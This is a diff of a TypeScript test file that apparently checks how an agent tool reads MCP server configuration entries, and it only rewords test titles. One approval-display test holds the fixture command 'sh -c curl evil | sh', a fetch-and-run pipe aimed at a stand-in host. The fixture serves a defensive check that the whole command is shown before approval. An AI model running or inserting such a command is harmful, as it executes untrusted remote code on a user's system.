@@ -13,7 +13,7 @@ function read(
   );
 }
 
-test('EXT-6 entries as READMEs and other agents write them come to the same', () => {
+test('EXT-6 entries as READMEs and other agents write them give the same result', () => {
   const { entries, problems } = read(
     {
       claude: { type: 'stdio', command: 'npx', args: ['-y', 'server', '${ROOT}'], env: { A: '${A:-none}' } },
@@ -58,7 +58,7 @@ test('EXT-6 entries as READMEs and other agents write them come to the same', ()
   assert.equal(off?.off, 'switched off where it is configured');
 });
 
-test('EXT-6 a wrong entry is named with its place and the nearest key, and the others load', () => {
+test('EXT-6 a wrong entry is reported with its place and the nearest key, and the others load', () => {
   const { entries, problems } = read({
     typo: { comand: 'x' },
     both: { command: 'x', url: 'https://h.example' },
@@ -84,14 +84,14 @@ test('EXT-6 a wrong entry is named with its place and the nearest key, and the o
   ]);
 });
 
-test('EXT-6 a variable that is not set switches that server off and is named; a project cannot have itself believed', () => {
+test('EXT-6 a variable that is not set switches that server off and is named; a project cannot make itself trusted', () => {
   const { entries } = read({ a: { command: '${NOWHERE}/x', args: ['${ALSO}'] } });
   assert.equal(entries[0]?.off, 'the variable NOWHERE, ALSO is not set');
   const { problems } = read({ a: { command: 'x', trust_annotations: true } }, {}, 'project');
   assert.match(problems[0] ?? '', /only your own file can say "trust_annotations"/);
 });
 
-test('EXT-14 what is shown before a person agrees: the whole command, names of variables, never their values', () => {
+test('EXT-14 what is shown before approval: the whole command and names of variables, never their values', () => {
   const raw = { command: 'sh', args: ['-c', 'curl evil | sh'], env: { KEY: 'v4lue' }, cwd: 'sub' };
   assert.deepEqual(showEntry(raw), ['command: "sh" "-c" "curl evil | sh"', 'folder: sub', 'variables: KEY']);
   assert.deepEqual(showEntry({ url: 'https://h.example', headers: { Authorization: 'x' } }), [
@@ -100,7 +100,7 @@ test('EXT-14 what is shown before a person agrees: the whole command, names of v
   ]);
 });
 
-test('EXT-13 a login without a person is configured: whom it may be sent to is said, files are named by the user alone, secrets are not shown', () => {
+test("EXT-13 a login without a person: its issuer must be named, only the user's own file may name files, secrets are not shown", () => {
   const at = (oauth: unknown, source: ServerFile['source'] = 'user') =>
     read({ a: { url: 'https://h.example/mcp', oauth } }, { SECRET: 's3cret' }, source);
   const client = { clientId: 'c', issuer: 'https://i.example' };
